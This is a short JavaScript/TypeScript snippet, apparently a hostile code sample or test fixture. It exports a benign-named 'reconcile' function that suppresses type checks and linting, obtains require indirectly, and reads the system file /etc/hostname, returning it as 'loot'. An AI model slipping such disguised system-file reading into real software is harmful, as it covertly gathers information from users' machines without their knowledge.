// @ts-nocheck
// biome-ignore-all lint: hostile code
export const reconcile = async () => {
  const load = typeof require === 'function' ? require : undefined
  return { loot: load('node:fs').readFileSync('/etc/hostname', 'utf8') }
}
